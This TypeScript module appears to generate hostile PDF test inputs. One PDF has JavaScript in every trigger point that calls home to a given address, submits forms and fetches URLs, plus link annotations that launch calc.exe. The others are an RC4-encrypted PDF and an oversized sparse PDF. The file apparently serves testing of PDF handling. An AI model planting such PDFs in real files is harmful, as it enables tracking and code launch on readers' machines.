/** PDFs as nobody should send them, written by hand. */
import { createHash } from 'node:crypto';
import { closeSync, ftruncateSync, openSync, writeSync } from 'node:fs';
import { assemble, stream } from './pdf';

const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R ${more}>>`;
const pages = '<< /Type /Pages /Kids [4 0 R] /Count 1 >>';
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const words = (text: string) => `BT /F1 16 Tf 60 760 Td (${text}) Tj ET`;

/** What code in a file would like to do: talk, call home, change the page, send the form. */
const evil = (address: string) => `app.alert('x'); app.launchURL('${address}/script'); this.submitForm('${address}/form'); fetch('${address}/fetch'); document.title = 'owned';`;

/** Code at every place of a PDF that can hold some, and a way out at every place that can be pressed. */
export function scriptedPdf(address: string): Buffer {
  const code = `<< /S /JavaScript /JS (${evil(address).replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`;
  const everywhere = '/Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]';
  const xdp = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">${evil(address)}</script></event></subform></template></xdp:xdp>`;
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${code} /AA << /WC ${code} /DP ${code} >> /Names << /JavaScript << /Names [(a) ${code}] >> >> /AcroForm << /Fields [6 0 R] /XFA 7 0 R >> >>`,
    pages,
    font,
    page(`/AA << /O ${code} >> /Annots [6 0 R 8 0 R 9 0 R 10 0 R 11 0 R] `),
    stream(words('Co ma lenh')),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (o) /Rect [60 600 300 640] /AA << /K ${code} /C ${code} /Fo ${code} /E ${code} >> >>`,
    stream(xdp),
    `<< /Type /Annot ${everywhere} /A << /S /URI /URI (${address}/link) >> >>`,
    `<< /Type /Annot ${everywhere} /A << /S /Launch /F (calc.exe) >> >>`,
    `<< /Type /Annot ${everywhere} /A << /S /SubmitForm /F << /FS /URL /F (${address}/form) >> >> >>`,
    `<< /Type /Annot ${everywhere} /A << /S /GoToR /F << /FS /URL /F (${address}/other.pdf) >> /D [0 /Fit] >> >>`,
  ]);
}

const filler = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const padded = (password: string) => Buffer.concat([Buffer.from(password, 'latin1'), filler]).subarray(0, 32);
const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest();

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, i) => i);
  const at = (i: number) => state[i & 255] ?? 0;
  const swap = (i: number, j: number) => ([state[i], state[j]] = [at(j), at(i)]);
  for (let i = 0, j = 0; i < 256; i++) swap(i, (j = (j + at(i) + (key[i % key.length] ?? 0)) & 255));
  let [i, j] = [0, 0];
  return Buffer.from(data.map((byte) => {
    swap((i = (i + 1) & 255), (j = (j + at(i)) & 255));
    return byte ^ at(at(i) + at(j));
  }));
}

/** A PDF locked by the standard handler, revision 2 (ISO 32000-1, 7.6.3). With no word for users it opens without asking. */
export function lockedPdf(text: string, user: string, owner: string): Buffer {
  const id = md5(Buffer.from(text));
  const rights = Buffer.from([0xfc, 0xff, 0xff, 0xff]); // -4: everything, lowest byte first
  const ownerEntry = rc4(md5(padded(owner)).subarray(0, 5), padded(user));
  const key = md5(padded(user), ownerEntry, rights, id).subarray(0, 5);
  const contents = 5;
  const body = rc4(md5(key, Buffer.from([contents, 0, 0, 0, 0])).subarray(0, 10), Buffer.from(words(text))).toString('latin1');
  const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;
  return assemble(
    ['<< /Type /Catalog /Pages 2 0 R >>', pages, font, page(), `<< /Length ${body.length} >>\nstream\n${body}\nendstream`,
      `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O ${hex(ownerEntry)} /U ${hex(rc4(key, filler))} >>`],
    `/Encrypt 6 0 R /ID [${hex(id)} ${hex(id)}] `,
  );
}

/** Writes a PDF of that many bytes, most of them one stream of nothing; on most disks it takes no room. */
export function writeBigPdf(path: string, size: number): void {
  const head = assemble(['<< /Type /Catalog /Pages 2 0 R >>', pages, font, page(), stream(words('Tep rat lon'))]).toString('latin1');
  const cut = head.indexOf('xref');
  const start = `6 0 obj\n<< /Length ${size - 4096 - cut} >>\nstream\n`;
  const end = '\nendstream\nendobj\n';
  const tail = size - head.length + cut;
  const file = openSync(path, 'w');
  writeSync(file, head.slice(0, cut) + start, 0, 'latin1');
  const table = head.slice(cut).replace(/startxref\n\d+/, `startxref\n${tail}`);
  writeSync(file, end + table, tail - end.length, 'latin1');
  ftruncateSync(file, size);
  closeSync(file);
}
